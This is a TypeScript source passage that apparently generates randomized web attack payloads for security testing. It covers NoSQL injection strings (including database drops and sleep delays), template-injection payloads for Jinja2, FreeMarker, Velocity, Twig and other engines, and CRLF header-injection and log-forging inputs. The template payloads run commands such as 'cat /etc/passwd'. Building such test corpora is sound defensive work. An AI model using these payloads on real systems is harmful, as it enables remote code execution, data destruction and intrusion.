  { name: 'nosql-operator', make: (rng) => rng.pick(NOSQL_OPERATORS) },
  {
    name: 'nosql-js',
    make: (rng) =>
      rng.pick([
        `' || '1'=='1`,
        `'; return true; var ${rng.letters(3)}='`,
        `"; return(true); var ${rng.letters(3)}="`,
        `1; while(true){}`,
        `'; sleep(${rng.between(1, 9)}000); '`,
        `this.password.match(/.*/)//`,
        `' && this.password.match(/^${rng.letters(1)}/)//`,
        `admin' || 'a'=='a`,
        `'; db.dropDatabase(); var ${rng.letters(2)}='`,
        `true, $where: '1 == 1'`,
        `1' || this.role == 'admin' || '`,
        `'; return db.users.find(); var x='`,
        `function() { return this.isAdmin == true }`,
      ]),
  },
  {
    name: 'nosql-json-string',
    make: (rng) =>
      rng.pick([
        `{"$ne": null}`,
        `{"$gt": ""}`,
        `{"$where": "sleep(${rng.between(1, 9)}000)"}`,
        `{"$regex": "^${rng.letters(2)}"}`,
        `j:{"$ne":""}`,
        `{"username": {"$ne": null}, "password": {"$ne": null}}`,
        `{"$or": [{}, {"a": "a"}]}`,
        `{"$where": "this.role == 'admin'"}`,
        `[$ne]=${rng.letters(3)}`,
        `{"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}`,
      ]),
  },
]

const SSTI: Family[] = [
  {
    name: 'template-probe',
    make: (rng) => {
      const a = rng.between(7, 99)
      const b = rng.between(7, 99)
      return rng.pick([`{{${a}*${b}}}`, `\${${a}*${b}}`, `<%= ${a}*${b} %>`, `#{${a}*${b}}`, `\${{${a}*${b}}}`, `{{${a}*'${b}'}}`, `@(${a}*${b})`, `*{${a}*${b}}`, `[[\${${a}*${b}}]]`, `{{=${a}*${b}}}`, `\${{<%[%'"}}%\\.`, `{{'${rng.letters(3)}'.upper()}}`, `{${a}*${b}}`])
    },
  },
  {
    name: 'jinja2',
    make: (rng) => {
      const cmd = rng.pick(['id', 'whoami', 'cat /etc/passwd', 'ls'])
      return rng.pick([
        '{{config.items()}}',
        `{{self.__init__.__globals__.__builtins__.__import__('os').popen('${cmd}').read()}}`,
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        `{{request.application.__globals__.__builtins__.__import__('os').popen('${cmd}').read()}}`,
        `{{cycler.__init__.__globals__.os.popen('${cmd}').read()}}`,
        `{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen("${cmd}").read()}}{%endif%}{% endfor %}`,
        `{{lipsum.__globals__['os'].popen('${cmd}').read()}}`,
        '{{ get_flashed_messages.__globals__ }}',
        `{{ namespace.__init__.__globals__.os.popen('${cmd}').read() }}`,
        "{{ ''.__class__.__base__.__subclasses__() }}",
        '{{settings.SECRET_KEY}}',
      ])
    },
  },
  {
    name: 'template-engines',
    make: (rng) => {
      const cmd = rng.pick(['id', 'whoami', 'cat /etc/passwd'])
      return rng.pick([
        `<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("${cmd}")}`,
        `\${"freemarker.template.utility.Execute"?new()("${cmd}")}`,
        `#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('${cmd}')`,
        `__\${T(java.lang.Runtime).getRuntime().exec('${cmd}')}__::.x`,
        `{php}echo \`${cmd}\`;{/php}`,
        `{system('${cmd}')}`,
        `{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("${cmd}")}}`,
        `{{['${cmd}']|filter('system')}}`,
        `<%= system('${cmd}') %>`,
        `<%= \`${cmd}\` %>`,
        `#{root.process.mainModule.require('child_process').execSync('${cmd}')}`,
        `{{range.constructor("return global.process.mainModule.require('child_process').execSync('${cmd}')")()}}`,
        `\${self.module.cache.util.os.system("${cmd}")}`,
        `{% import os %}{{os.system('${cmd}')}}`,
        `@System.Diagnostics.Process.Start("cmd.exe","/c ${cmd}")`,
        `{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{/with}}{{/with}}{{/with}}`,
        `\${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('${cmd}').getInputStream())}`,
      ])
    },
  },
]

const CRLF_HEADERS = (rng: Rng) => [`Set-Cookie: ${rng.pick(['session', 'sid', 'admin'])}=${rng.hex(8)}`, `Location: https://${attacker(rng)}/`, 'Content-Length: 0', 'X-XSS-Protection: 0', 'Access-Control-Allow-Origin: *', `Content-Type: text/html\r\n\r\n<script>alert(1)</script>`, `Refresh: 0; url=https://${attacker(rng)}/`, `X-Injected: ${rng.letters(5)}`]
const CRLF_PREFIX = ['', '', '/home', 'en', 'https://example.com/', '1', 'report']

const CRLF: Family[] = [
  {
    name: 'header-injection',
    make: (rng) => `${rng.pick(CRLF_PREFIX)}${rng.pick(['\r\n', '\r\n', '\n', '\r', '\r\n '])}${rng.pick(CRLF_HEADERS(rng))}`,
  },
  {
    name: 'response-splitting',
    make: (rng) => `${rng.pick(CRLF_PREFIX)}\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: ${rng.between(19, 40)}\r\n\r\n<html>${rng.letters(6)}</html>`,
  },
  {
    name: 'encoded-crlf',
    make: (rng) => {
      const text = `${rng.pick(CRLF_PREFIX)}${rng.pick(['%0d%0a', '%0D%0A', '%0a', '%250d%250a', '%E5%98%8A%E5%98%8D', '%u000d%u000a', '\\r\\n', '%%0d0a'])}${rng.pick(CRLF_HEADERS(rng)).replaceAll('\r\n', '%0d%0a').replaceAll(' ', '%20')}`
      return { value: text, urlText: text }
    },
  },
  {
    name: 'log-forging',
    make: (rng) => `${rng.letters(6)}\n${rng.pick([`[INFO] User admin logged in from 10.0.0.${rng.between(1, 254)}`, `127.0.0.1 - - [01/Jan/2026:00:00:00 +0000] "GET /admin HTTP/1.1" 200 1`, `level=info msg="password reset for admin"`])}`,
  },
]

export const FAMILIES: Record<AttackClass, Family[]> = { sqli: SQLI, xss: XSS, rce: RCE, lfi: LFI, rfi: RFI, php: PHP, java: JAVA, ssrf: SSRF, nosql: NOSQL, ssti: SSTI, crlf: CRLF }

/** Up to `count` distinct payloads of each family of `attackClass`. */
export function generatedPayloads(attackClass: AttackClass, rng: Rng, count: number): Payload[] {
  const out: Payload[] = []
  for (const family of FAMILIES[attackClass]) {
    const seen = new Set<string>()
    for (let attempt = 0; attempt < count * 6 && seen.size < count; attempt++) {
      const made = family.make(rng)
      const payload = typeof made === 'string' ? { value: made } : made
      const key = payload.urlText ?? payload.value
      if (seen.has(key)) continue
      seen.add(key)
      out.push({ class: attackClass, source: `generated:${family.name}`, ...payload })
    }
  }
  return out
}
